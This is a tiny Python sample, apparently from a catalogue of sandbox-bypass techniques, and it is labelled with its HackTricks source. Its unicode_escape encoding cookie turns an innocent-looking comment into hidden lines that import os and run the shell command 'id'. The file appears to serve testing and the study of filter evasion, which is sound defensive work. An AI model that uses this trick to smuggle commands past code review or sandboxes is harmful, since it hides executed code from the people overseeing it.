# -*- coding: unicode_escape -*-
# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (unicode_escape)
# Family: source-encoding
# What: unicode_escape cookie: an escaped x0a in a comment becomes a newline followed by import os
qty = 3
#\x0aimport os\x0aos.system("id")
print(qty)
